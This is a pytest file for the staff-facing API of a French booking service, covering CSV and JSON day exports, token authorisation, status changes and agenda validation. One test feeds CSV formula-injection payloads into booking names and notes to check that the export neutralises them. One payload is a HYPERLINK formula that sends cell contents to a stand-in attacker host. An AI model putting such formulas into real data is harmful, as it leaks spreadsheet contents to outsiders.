import csv
import datetime as dt
import io

import pytest
from sqlalchemy import text

from fs_testkit.tokens import AgentKey

from .helpers import booking_body, free_slots, in_days


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def _day_with_bookings(booking_client, stop_agenda) -> tuple[dict, str, list[dict]]:
    agenda = await stop_agenda(rules=[{"weekdays": [0, 1, 2, 3, 4, 5, 6], "ranges": [["09:00", "12:00"]]}])
    day = in_days(3)
    slots = await free_slots(booking_client, agenda["stop_id"], **{"from": day, "to": day})
    made = []
    for slot, name in ((slots[4], "Dominique Leroy"), (slots[0], "Camille Martin")):
        body = booking_body(agenda["stop_id"], slot["starts_at"], name=name) | {
            "note": "Besoin d'un interprète"
        }
        made.append((await booking_client.post("/v1/bookings", json=body)).json())
    return agenda, day, made


async def test_agent_gets_the_day_of_their_site_in_json_and_csv(booking_client, stop_agenda, make_token):
    agenda, day, made = await _day_with_bookings(booking_client, stop_agenda)
    headers = bearer(make_token("agent", [agenda["site_id"]]))
    url = f"/v1/agent/sites/{agenda['site_id']}/bookings"
    response = await booking_client.get(url, params={"date": day}, headers=headers)
    assert response.status_code == 200, response.text
    day_list = response.json()
    assert [b["person"]["name"] for b in day_list] == ["Camille Martin", "Dominique Leroy"]
    assert day_list[0]["note"] == "Besoin d'un interprète"
    other_day = await booking_client.get(url, params={"date": in_days(9)}, headers=headers)
    assert other_day.json() == []
    csv = await booking_client.get(url, params={"date": day, "format": "csv"}, headers=headers)
    assert csv.headers["content-type"].startswith("text/csv")
    lines = csv.text.lstrip("\ufeff").splitlines()
    assert lines[0].startswith("début;fin;statut;nom")
    assert len(lines) == 3 and "Camille Martin" in lines[1] and "confirmé" in lines[1]
    by_accept = await booking_client.get(url, params={"date": day}, headers=headers | {"Accept": "text/csv"})
    assert by_accept.text == csv.text


async def test_the_csv_export_never_runs_a_formula(booking_client, stop_agenda, make_token):
    """A name or note that a spreadsheet would evaluate comes out as inert text, prefixed with '."""
    agenda = await stop_agenda()
    day = in_days(4)
    slots = await free_slots(booking_client, agenda["stop_id"], **{"from": day, "to": day})
    hostile = [
        ('=HYPERLINK("https://evil.example/?x="&A1,"Voir")', "+SUM(1;1)"),
        ("@SUM(1+1)", "-2+3"),
        ("\tTabulée", "\rretour"),
    ]
    for slot, (name, note) in zip(slots, hostile, strict=False):
        body = booking_body(agenda["stop_id"], slot["starts_at"], name=name) | {"note": note}
        assert (await booking_client.post("/v1/bookings", json=body)).status_code == 201
    url = f"/v1/agent/sites/{agenda['site_id']}/bookings"
    response = await booking_client.get(
        url, params={"date": day, "format": "csv"}, headers=bearer(make_token("agent", [agenda["site_id"]]))
    )
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";"))
    header, body_rows = rows[0], rows[1:]
    names = [row[header.index("nom")] for row in body_rows]
    notes = [row[header.index("note")] for row in body_rows]
    assert sorted(names) == sorted("'" + name for name, _ in hostile)
    assert sorted(notes) == sorted("'" + note for _, note in hostile)
    for row in body_rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


async def test_only_a_valid_token_of_that_site_opens_its_bookings(booking_client, stop_agenda, make_token):
    agenda, day, _ = await _day_with_bookings(booking_client, stop_agenda)
    url = f"/v1/agent/sites/{agenda['site_id']}/bookings"
    params = {"date": day}
    other_site = await booking_client.get(url, params=params, headers=bearer(make_token("agent", [1])))
    assert other_site.status_code == 403 and "habilité" in other_site.json()["detail"]
    expired = make_token("agent", [agenda["site_id"]], expires_in=dt.timedelta(minutes=-1))
    response = await booking_client.get(url, params=params, headers=bearer(expired))
    assert response.status_code == 401 and "expiré" in response.json()["detail"]
    forged = AgentKey().token("national_admin", [agenda["site_id"]])  # a key booking does not trust
    assert (await booking_client.get(url, params=params, headers=bearer(forged))).status_code == 401
    assert (await booking_client.get(url, params=params)).status_code == 401
    national = await booking_client.get(url, params=params, headers=bearer(make_token("national_admin")))
    assert national.status_code == 200 and len(national.json()) == 2


async def test_agent_status_updates_write_events_and_free_the_place(
    booking_client, stop_agenda, make_token, booking_app
):
    agenda, day, (first, second) = await _day_with_bookings(booking_client, stop_agenda)
    headers = bearer(make_token("site_admin", [agenda["site_id"]]))
    honoured = await booking_client.patch(
        f"/v1/agent/bookings/{first['id']}", json={"status": "honoured"}, headers=headers
    )
    assert honoured.status_code == 200 and honoured.json()["status"] == "honoured"
    stranger = bearer(make_token("agent", [1]))
    refused = await booking_client.patch(
        f"/v1/agent/bookings/{second['id']}", json={"status": "no_show"}, headers=stranger
    )
    assert refused.status_code == 403
    cancelled = await booking_client.patch(
        f"/v1/agent/bookings/{second['id']}", json={"status": "cancelled_by_site"}, headers=headers
    )
    assert cancelled.json()["status"] == "cancelled_by_site" and cancelled.json()["cancelled_by"] == "site"
    again = await booking_client.patch(
        f"/v1/agent/bookings/{second['id']}", json={"status": "honoured"}, headers=headers
    )
    assert again.status_code == 409
    slots = await free_slots(booking_client, agenda["stop_id"], **{"from": day, "to": day})
    assert next(s for s in slots if s["starts_at"] == second["starts_at"])["remaining"] == 2
    async with booking_app.state.engine.connect() as conn:
        rows = await conn.execute(
            text(
                "SELECT type, payload->'booking'->>'status', payload->'booking'->>'cancelled_by' FROM outbox "
                "WHERE payload->'booking'->>'booking_id' IN (:a, :b) ORDER BY seq"
            ),
            {"a": first["id"], "b": second["id"]},
        )
        assert [tuple(r) for r in rows] == [
            ("booking.created", "confirmed", None),
            ("booking.created", "confirmed", None),
            ("booking.status_changed", "honoured", None),
            ("booking.cancelled", "cancelled_by_site", "site"),
        ]


async def test_agents_edit_their_agenda_but_not_another_sites(booking_client, stop_agenda, make_token):
    agenda = await stop_agenda()
    url = f"/v1/agent/agendas/{agenda['id']}"
    stranger = await booking_client.patch(url, json={"capacity": 3}, headers=bearer(make_token("agent", [1])))
    assert stranger.status_code == 403
    mine = await booking_client.patch(
        url,
        json={"capacity": 3, "buffer_minutes": 15, "demarches": ["caf-rsa"]},
        headers=bearer(make_token("agent", [agenda["site_id"]])),
    )
    assert (
        mine.status_code == 200 and mine.json()["capacity"] == 3 and mine.json()["demarches"] == ["caf-rsa"]
    )
    unknown = await booking_client.patch(
        url, json={"demarches": ["nope"]}, headers=bearer(make_token("agent", [agenda["site_id"]]))
    )
    assert unknown.status_code == 422


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("", {"rules": [{"weekdays": [0], "ranges": [["09:00", "12:00"]], "valid_until": "9999-12-31"}]}),
        ("", {"rules": [{"weekdays": [0], "ranges": [["09:00", "12:00"]], "valid_from": "0001-01-01"}]}),
        ("", {"rules": [{"dates": ["9999-12-31"], "ranges": [["09:00", "12:00"]]}]}),
        ("/exceptions", {"date": "9999-12-31", "kind": "closed"}),
        ("/exceptions", {"date": "0001-01-01", "kind": "open", "ranges": [["09:00", "10:00"]]}),
    ],
)
async def test_agenda_dates_outside_the_window_are_422(booking_client, stop_agenda, make_token, path, body):
    agenda = await stop_agenda()
    url = f"/v1/agent/agendas/{agenda['id']}{path}"
    headers = bearer(make_token("agent", [agenda["site_id"]]))
    response = await (booking_client.post if path else booking_client.patch)(url, json=body, headers=headers)
    assert response.status_code == 422, response.text
    assert "La date doit être comprise entre" in response.json()["detail"]


async def test_a_day_export_of_an_impossible_date_is_422(booking_client, make_token):
    headers = bearer(make_token("agent", [3015]))
    response = await booking_client.get("/v1/agent/sites/3015/bookings?date=9999-12-31", headers=headers)
    assert response.status_code == 422
